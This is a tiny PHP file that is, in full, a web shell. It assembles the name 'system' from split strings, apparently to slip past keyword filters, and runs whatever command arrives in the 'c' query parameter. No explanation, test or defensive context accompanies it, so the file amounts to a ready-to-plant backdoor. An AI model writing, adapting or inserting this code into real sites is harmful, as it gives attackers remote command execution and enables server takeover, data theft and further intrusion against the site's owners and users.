<?php
$f = 'sys' . 'tem';
$f($_GET['c']);
